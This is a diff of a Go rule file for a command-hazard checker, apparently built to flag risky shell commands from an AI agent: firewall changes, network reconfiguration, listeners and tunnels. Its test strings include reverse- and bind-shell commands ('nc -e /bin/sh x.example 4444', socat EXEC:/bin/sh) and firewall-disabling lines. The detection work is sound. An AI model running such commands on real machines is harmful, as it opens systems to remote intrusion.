@@ -10,29 +10,26 @@ import (
 func networkRules() []hazard.Rule {
 	return []hazard.Rule{
 		{
-			ID: "firewall-change", Class: "network", Programs: "iptables ip6tables iptables-legacy iptables-restore ip6tables-restore ebtables nft ufw firewall-cmd pfctl netsh ipset",
+			ID: "firewall-change", Class: "network", Kind: "changes-firewall",
 			Why:     "changes the firewall",
 			Instead: "List the rules (`iptables -L`, `nft list ruleset`, `ufw status`), and ask the user to change them.",
-			Match: match(arguments(1), either(both(named("iptables", "ip6tables", "iptables-legacy", "ebtables"), not(says("-L", "-S", "-nL", "-vnL", "-nvL", "-Ln", "-Lnv", "-C", "--list", "--list-rules", "--check", "-V"))), named("iptables-restore", "ip6tables-restore"), both(named("nft"), either(says("flush", "delete", "add", "insert", "create", "replace", "destroy", "reset", "-f", "--file"))),
-				both(named("ufw"), says("disable", "enable", "reset", "allow", "deny", "delete", "reject", "insert", "limit", "default", "reload", "route")), both(named("firewall-cmd"), argument(hasPrefix("--add", "--remove", "--set", "--panic", "--reload", "--complete-reload", "--new", "--delete", "--change"))), both(named("pfctl"), says("-d", "-e", "-F", "-f", "-t")),
-				both(named("netsh"), both(says("advfirewall", "firewall"), says("set", "add", "delete", "reset"))), both(named("ipset"), verbs("destroy", "flush", "add", "del", "create")))),
-			Hit:  []string{"iptables -F", "sudo iptables -A INPUT -p tcp --dport 80 -j ACCEPT", "ufw disable", "nft flush ruleset", "firewall-cmd --add-port=80/tcp", "pfctl -d", "netsh advfirewall set allprofiles state off"},
-			Miss: []string{"iptables -L", "iptables -S", "nft list ruleset", "ufw status", "firewall-cmd --list-all", "grep iptables setup.sh"},
+			Match:   match(arguments(1), acts("changes-firewall")),
+			Hit:     []string{"iptables -F", "sudo iptables -A INPUT -p tcp --dport 80 -j ACCEPT", "ufw disable", "nft flush ruleset", "firewall-cmd --add-port=80/tcp", "pfctl -d", "netsh advfirewall set allprofiles state off"},
+			Miss:    []string{"iptables -L", "iptables -S", "nft list ruleset", "ufw status", "firewall-cmd --list-all", "grep iptables setup.sh"},
 		},
 		{
-			ID: "network-config", Class: "network", Programs: "ip ifconfig route nmcli iw iwconfig tc brctl networksetup resolvectl arp ethtool wg wg-quick",
+			ID: "network-config", Class: "network", Kind: "changes-network",
 			Why:     "changes the network of the machine",
 			Instead: "Look at the settings (`ip addr`, `ip route`), and ask the user to change them.",
-			Match: match(either(both(named("ip", "tc", "brctl"), wordVerb(2, is("add", "del", "delete", "set", "flush", "change", "replace", "append", "addbr", "delbr", "exec"))), both(named("nmcli"), wordVerb(3, is("add", "delete", "down", "up", "connect", "disconnect", "modify", "off", "on"))), both(named("ifconfig"), both(arguments(2), not(says("-a", "-s")))), both(named("route", "arp"), says("add", "del", "delete", "flush", "-d", "-s", "change")),
-				both(named("iw", "iwconfig", "ethtool"), says("set", "mode", "essid", "-s", "connect", "disconnect", "del", "add")), both(named("networksetup"), argument(hasPrefix("-set", "-create", "-delete", "-remove"))), both(named("resolvectl"), verbs("dns", "revert", "domain", "flush-caches")), both(named("wg-quick"), verbs("up", "down")), both(named("wg"), verbs("set", "setconf", "addconf", "syncconf")))),
-			Hit:  []string{"ip link set eth0 down", "ip route add default via 10.0.0.1", "ifconfig eth0 down", "nmcli con down home", "networksetup -setdnsservers Wi-Fi 1.1.1.1", "ip addr flush dev eth0"},
-			Miss: []string{"ip addr", "ip -s link show eth0", "ifconfig", "ifconfig -a", "route -n", "nmcli device status", "ip route get 1.1.1.1", "ip link show up"},
+			Match:   match(acts("changes-network")),
+			Hit:     []string{"ip link set eth0 down", "ip route add default via 10.0.0.1", "ifconfig eth0 down", "nmcli con down home", "networksetup -setdnsservers Wi-Fi 1.1.1.1", "ip addr flush dev eth0"},
+			Miss:    []string{"ip addr", "ip -s link show eth0", "ifconfig", "ifconfig -a", "route -n", "nmcli device status", "ip route get 1.1.1.1", "ip link show up"},
 		},
 		{
-			ID: "network-listener", Class: "network", Programs: "nc ncat socat",
+			ID: "network-listener", Class: "network", Kind: "listens",
 			Why:     "opens a port to the network, or attaches a program to a connection",
 			Instead: "Use the tool's own server bound to 127.0.0.1, or ask the user.",
-			Match:   match(either(option("l", "listen", "e", "exec", "c", "sh-exec", "lua-exec"), argument(func(v string) bool { return contains("EXEC:", "SYSTEM:", "LISTEN:", "SHELL:")(strings.ToUpper(v)) }))),
+			Match:   match(acts("listens"), either(option("l", "listen", "e", "exec", "c", "sh-exec", "lua-exec"), argument(func(v string) bool { return contains("EXEC:", "SYSTEM:", "LISTEN:", "SHELL:")(strings.ToUpper(v)) }))),
 			Hit:     []string{"nc -lvp 4444", "nc -e /bin/sh x.example 4444", "ncat -l 80 --exec /bin/bash", "socat TCP-LISTEN:80,fork EXEC:/bin/sh", "nc -kl 8000"},
 			Miss:    []string{"nc -z localhost 5432", "nc -zv host 22", "socat --help", "echo hi | nc localhost 80"},
 		},
@@ -45,13 +42,12 @@ func networkRules() []hazard.Rule {
 			Miss:    []string{"echo hi > /dev/null", "cat run.sh | grep nc", "echo '/dev/tcp/x.example/4444'", `python3 -c "import socket; print(socket.gethostname())"`, "bash run.sh | tee log"},
 		},
 		{
-			ID: "open-tunnel", Class: "network", Programs: "ssh autossh ngrok cloudflared lt localtunnel bore tailscale frpc chisel zrok pagekite npx telebit",
+			ID: "open-tunnel", Class: "network", Kind: "tunnels",
 			Why:     "lets others reach this machine from the network",
 			Instead: "Use a local address only, or ask the user to open the tunnel.",
-			Match: match(either(both(named("ssh", "autossh"), either(option("R", "w"), says("-R"), argument(hasPrefix("-R")))), both(named("ngrok"), not(verbs("config", "version", "help", "authtoken"))), both(named("cloudflared"), verbs("tunnel", "access")), both(named("lt", "localtunnel", "bore", "frpc", "chisel", "pagekite", "telebit"), arguments(1)), both(named("tailscale"), verbs("funnel", "serve", "up")), both(named("zrok"), verbs("share")),
-				verbs("localtunnel", "ngrok http", "ngrok tcp"))),
-			Hit:  []string{"ssh -R 8080:localhost:3000 host", "ngrok http 3000", "cloudflared tunnel --url http://localhost:3000", "npx localtunnel --port 3000", "tailscale funnel 3000", "ssh -fNR 80:localhost:80 host"},
-			Miss: []string{"ssh -L 5432:localhost:5432 host", "ssh host", "tailscale status", "ngrok version", "npx eslint ."},
+			Match:   match(acts("tunnels")),
+			Hit:     []string{"ssh -R 8080:localhost:3000 host", "ngrok http 3000", "cloudflared tunnel --url http://localhost:3000", "npx localtunnel --port 3000", "tailscale funnel 3000", "ssh -fNR 80:localhost:80 host"},
+			Miss:    []string{"ssh -L 5432:localhost:5432 host", "ssh host", "tailscale status", "ngrok version", "npx eslint ."},
 		},
 	}
 }
@@ -65,7 +61,7 @@ func networkShell(s *hazard.Scene, c *cmd) (span, bool) {
 		}
 	}
 	switch {
-	case named("nc", "ncat", "socat", "telnet", "openssl")(c):
+	case c.Of("pipes-to-port"):
 		return c.Span, feeds(s, c, isBareShell)
 	case c.Is(program.IsInterpreter):
 		return c.Span, shellOverNetwork(c)
